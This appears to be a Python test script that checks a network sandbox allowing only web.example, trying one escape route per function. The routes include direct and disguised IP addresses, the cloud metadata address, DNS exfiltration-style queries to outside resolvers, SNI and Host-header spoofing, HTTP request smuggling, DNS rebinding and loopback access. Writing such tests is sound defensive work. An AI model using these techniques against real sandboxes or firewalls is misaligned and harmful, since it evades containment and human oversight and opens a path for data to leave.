"""Ways around a cage's rules. `ways.py NAME` tries one: it ends with 0 if that way led to where it
should not, or would not in a cage, and fails otherwise.

Runs uncaged, where every way is open, and in a cage that allows `web.example` alone.
"""

import os
import socket
import ssl
import struct
import sys

FAR4, FAR6, PRIVATE4 = "203.0.113.2", "2001:db8:1::2", "10.99.0.2"
LONG_LABEL = "a" * 50


def connected(host, port):
    return socket.create_connection((host, port), timeout=10)


def exchange(connection, request):
    """Sends a request and returns all that comes back."""
    with connection:
        connection.sendall(request)
        answer = b""
        while block := connection.recv(4096):
            answer += block
    return answer


def expect(answer, text=b"hello from"):
    if text not in answer:
        raise SystemExit(f"answered {answer[:200]!r}")


def get(connection, host, more=""):
    request = f"GET / HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"
    expect(exchange(connection, request.encode()))


def plain(host, port=80):
    get(connected(host, port), host if ":" not in host else f"[{host}]")


def allowed():
    """What is allowed, by the same means as all the rest."""
    plain("web.example")
    secure("web.example", "web.example")


# Addresses instead of names.


def direct_v4():
    plain(FAR4)


def direct_v6():
    plain(FAR6)


def direct_mapped():
    plain("::ffff:" + FAR4)


def direct_private():
    plain(PRIVATE4)


def direct_metadata():
    plain("169.254.169.254")


def direct_decimal():
    plain(str(0xCB007102))


def direct_octal():
    plain("0313.0.0161.2")


def direct_host():
    plain("203.0.113.1", 8002)


def in_child():
    """The decision must not depend on which process connects."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            try:
                plain(FAR4)
            except BaseException:
                os._exit(1)
            os._exit(0)
        os._exit(os.waitstatus_to_exitcode(os.wait()[1]))
    sys.exit(os.waitstatus_to_exitcode(os.wait()[1]))


# Names by other ways.


def question(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def ask(server, name, kind=1):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as asking:
        asking.settimeout(10)
        asking.connect((server, 53))
        asking.send(question(name, kind))
        answer = asking.recv(4096)
    if answer[3] & 15 != 0:
        raise SystemExit(f"code {answer[3] & 15}")
    return answer


def dns_elsewhere():
    ask(FAR4, "secret.exfiltration.example")


def dns_elsewhere_v6():
    ask(FAR6, "secret.exfiltration.example")


def dns_over_tcp():
    message = question("secret.exfiltration.example")
    with connected(FAR4, 53) as asking:
        asking.sendall(struct.pack("!H", len(message)) + message)
        answer = asking.recv(4096)
    if answer[5] & 15 != 0:
        raise SystemExit(f"code {answer[5] & 15}")


def dns_over_tls():
    tls(connected(FAR4, 853), FAR4).close()


def dns_over_https():
    secure(FAR4, FAR4)


def dns_over_https_by_name():
    secure("other.example", "other.example")


def multicast_dns():
    datagram(FAR4, 5353)


# What is not TCP.


def datagram(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sending:
        sending.settimeout(10)
        sending.connect((host, port))
        sending.send(b"out")
        expect(sending.recv(100), b"out")


def udp_443():
    datagram(FAR4, 443)


def udp_443_v6():
    datagram(FAR6, 443)


def udp_any():
    datagram(FAR4, 8125)


def echo_request():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sending:
        sending.settimeout(10)
        sending.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]), (FAR4, 0))
        sending.recv(100)


# Another name on the way to an allowed one.


def tls(connection, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    return context.wrap_socket(connection, server_hostname=name)


def secure(host, name):
    get(tls(connected(host, 443), name), name or host)


def other_server_name():
    secure("web.example", "other.example")


def no_server_name():
    secure("web.example", None)


def server_name_in_pieces():
    """The client's first message arrives byte by byte."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    session = context.wrap_bio(incoming, outgoing, server_hostname="other.example")
    with connected("web.example", 443) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                waiting = outgoing.read()
                for place in range(0, len(waiting), 40):
                    connection.sendall(waiting[place : place + 40])
                block = connection.recv(16384)
                if not block:
                    raise SystemExit("closed") from None
                incoming.write(block)


def other_host():
    get(connected("web.example", 80), "other.example")


def no_host():
    expect(exchange(connected("web.example", 80), b"GET / HTTP/1.0\r\n\r\n"))


def two_hosts():
    get(connected("web.example", 80), "other.example", "Host: web.example\r\n")


def absolute_address():
    request = b"GET http://other.example/ HTTP/1.1\r\nHost: web.example\r\nConnection: close\r\n\r\n"
    exchange_and_expect_status(request)


def exchange_and_expect_status(request):
    """Any answer of the server counts: the request was handed on."""
    answer = exchange(connected("web.example", 80), request)
    if not answer or b"X-Stockade-Reason" in answer:
        raise SystemExit(f"answered {answer[:200]!r}")


def second_request():
    first = b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n"
    connection = connected("web.example", 80)
    connection.sendall(first)
    expect(connection.recv(4096))
    get(connection, "other.example")


def pipelined_request():
    first = b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n"
    second = b"GET / HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n"
    answer = exchange(connected("web.example", 80), first + second)
    expect(answer, b"hello from other.example")


def smuggled_request():
    """A request inside the body of another, by two lengths that disagree."""
    inner = b"GET / HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n"
    outer = (
        b"POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: %d\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(inner))
    )
    answer = exchange(connected("web.example", 80), outer + inner)
    expect(answer, b"hello from other.example")


def http2_without_asking():
    request = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)
    exchange_and_expect_status(request)


def line_feeds_alone():
    request = b"GET / HTTP/1.1\nHost: other.example\nConnection: close\n\n"
    expect(exchange(connected("web.example", 80), request))


# Names that lead inward.


def name(host, port=80):
    return lambda: plain(host, port)


def rebinding():
    """Asks until the name leads to the host's own loopback."""
    for _ in range(6):
        try:
            plain("rebind.example", 8000)
        except (OSError, SystemExit):
            continue
        return
    raise SystemExit("never led there")


WAYS = {
    "name_of_loopback": name("loop.example", 8000),
    "name_of_private": name("internal.example"),
    "name_of_metadata": name("metadata.example"),
    "name_of_unspecified": name("unspecified.example", 8002),
    "name_of_mapped": name("mapped.example"),
    "name_through_alias": name("inward.example"),
    "name_of_host": name("host.example", 8002),
    "host_loopback": lambda: plain("127.0.0.1", 8000),
    "host_loopback_v6": lambda: plain("::1", 8000),
    "host_localhost": lambda: plain("localhost", 8000),
}

if __name__ == "__main__":
    word = sys.argv[1]
    try:
        (WAYS.get(word) or globals()[word])()
    except OSError as error:
        sys.exit(f"{type(error).__name__}: {error}")
